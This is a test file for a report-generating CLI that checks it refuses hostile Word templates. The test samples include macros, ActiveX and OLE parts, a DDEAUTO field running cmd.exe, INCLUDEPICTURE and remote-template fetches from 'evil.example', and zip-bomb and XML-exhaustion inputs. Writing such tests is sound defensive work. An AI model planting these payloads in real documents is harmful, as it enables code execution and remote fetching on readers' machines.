// A Word template is somebody's file, and a report made with it is sent on: nothing in it may run, fetch, or fill the memory.
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { folderWith, goldenthread } from '../cli/command.js';

const PLAN = `plan Town: Town
  as at 2025-03-31
vision Thriving: A town where everyone thrives
fund General: General fund
  holds revenue
  years 2025/26
  available £1m
service Parks: Parks and open spaces
budget for Parks
  years 2025/26
  revenue General £1m
`;
const TYPES =
  '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>';
const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const documentOf = (inside: string): string => `<w:document ${W}><w:body>${inside}<w:sectPr/></w:body></w:document>`;
const relationship = (type: string, target: string): string =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;

const template = (parts: Record<string, string>): Uint8Array =>
  zipSync(
    Object.fromEntries(
      Object.entries({ '[Content_Types].xml': TYPES, 'word/document.xml': documentOf('<w:p/>'), ...parts }).map(
        ([name, text]) => [name, strToU8(text)],
      ),
    ),
  );

async function reportWith(bytes: Uint8Array): Promise<{ cwd: string; code: number | null; err: string }> {
  const cwd = folderWith({ 'town.plan': PLAN });
  writeFileSync(path.join(cwd, 'council.docx'), bytes);
  const { code, err } = await goldenthread(['report', 'budget', '-o', 'budget.docx', '--template', 'council.docx'], { cwd });
  return { cwd, code, err };
}

const field = (...runs: string[]): string =>
  `<w:p>${runs.map((run) => `<w:r><w:instrText xml:space="preserve">${run}</w:instrText></w:r>`).join('')}</w:p>`;

describe('a template', () => {
  it.each<[string, Record<string, string>, string]>([
    ['macros', { 'word/vbaProject.bin': 'x' }, 'holds macros'],
    [
      'macros under another name',
      { '[Content_Types].xml': TYPES.replace('application/xml', 'application/vnd.ms-word.document.macroEnabled.main+xml') },
      'holds macros',
    ],
    ['a control', { 'word/activeX/activeX1.xml': '<x/>' }, 'holds macros'],
    ['an embedded program', { 'word/embeddings/oleObject1.bin': 'x' }, 'holds macros'],
    [
      'a picture from elsewhere',
      { 'word/_rels/document.xml.rels': relationship('image', 'http://evil.example/p.png') },
      'takes a part from elsewhere (http://evil.example/p.png)',
    ],
    [
      'a frame from elsewhere',
      { 'word/_rels/header1.xml.rels': relationship('frame', '\\\\evil\\share') },
      'takes a part from elsewhere',
    ],
    ['a field that starts a program', { 'word/document.xml': documentOf(field('DDEAUTO c:\\\\cmd.exe')) }, '(DDEAUTO)'],
    ['one that is spread over runs', { 'word/document.xml': documentOf(field(' DD', 'EAUTO ', 'cmd')) }, '(DDEAUTO)'],
    [
      'a field that fetches',
      { 'word/header1.xml': `<w:hdr ${W}><w:fldSimple w:instr=" INCLUDEPICTURE http://evil.example/x "/></w:hdr>` },
      '(INCLUDEPICTURE)',
    ],
    ['another document', { 'word/document.xml': documentOf('<w:altChunk r:id="r1"/>') }, 'takes in other documents'],
  ])('with %s is refused in a sentence', async (_, parts, says) => {
    const { code, err } = await reportWith(template(parts));
    expect({ code, err }).toEqual({ code: 2, err: expect.stringContaining(says) });
    expect(err).toMatch(/^council\.docx cannot be used as a template: .*\n$/);
  });

  it('names no template that it was made of in what is made with it', async () => {
    const { cwd, code, err } = await reportWith(
      template({
        'word/settings.xml': `<w:settings ${W}><w:attachedTemplate r:id="r1"/><w:zoom w:percent="100"/></w:settings>`,
        'word/_rels/settings.xml.rels': relationship('attachedTemplate', 'http://evil.example/x.dotm'),
      }),
    );
    expect({ code, err }).toEqual({ code: 0, err: 'Written: budget.docx\n' });
    const made = unzipSync(readFileSync(path.join(cwd, 'budget.docx')));
    const all = Object.values(made)
      .map((bytes) => strFromU8(bytes))
      .join('');
    expect(all).not.toMatch(/evil\.example|attachedTemplate/);
    expect(all).toContain('w:zoom');
    expect(all).toContain('Parks and open spaces');
  });

  it('may hold links that a reader clicks', async () => {
    const links = relationship('hyperlink', 'https://council.example/');
    expect((await reportWith(template({ 'word/_rels/document.xml.rels': links }))).code).toBe(0);
  });

  it('of very much that is packed small is refused', async () => {
    const { code, err } = await reportWith(template({ 'word/media.xml': ' '.repeat(60_000_000) }));
    expect({ code, err }).toEqual({ code: 2, err: expect.stringContaining('larger than 50 MB once unpacked') });
  });

  it('of parts that hold more than they say is refused', async () => {
    const bytes = template({ 'word/media.xml': ' '.repeat(40_000_000) }).slice();
    const view = new DataView(bytes.buffer);
    for (let at = 0; at < bytes.length - 46; at++) if (view.getUint32(at, true) === 0x02014b50) view.setUint32(at + 24, 90, true);
    const { code, err } = await reportWith(bytes);
    expect({ code, err }).toEqual({ code: 2, err: expect.stringContaining('larger than 50 MB once unpacked, or than it says') });
  });

  it.each([
    ['settings of a page that never end', documentOf(`<w:sectPr>${'x'.repeat(20_000_000)}`)],
    ['a million settings of pages', documentOf('<w:p><w:sectPr></w:sectPr></w:p>'.repeat(300_000))],
    ['an opening that never ends', `${'<w:document '.repeat(300_000)}${documentOf('')}`],
  ])('with %s is no bug', async (_, document) => {
    const { code, err } = await reportWith(template({ 'word/document.xml': document }));
    expect(code).toBeOneOf([0, 2]);
    expect(err).not.toContain('bug');
  });
});
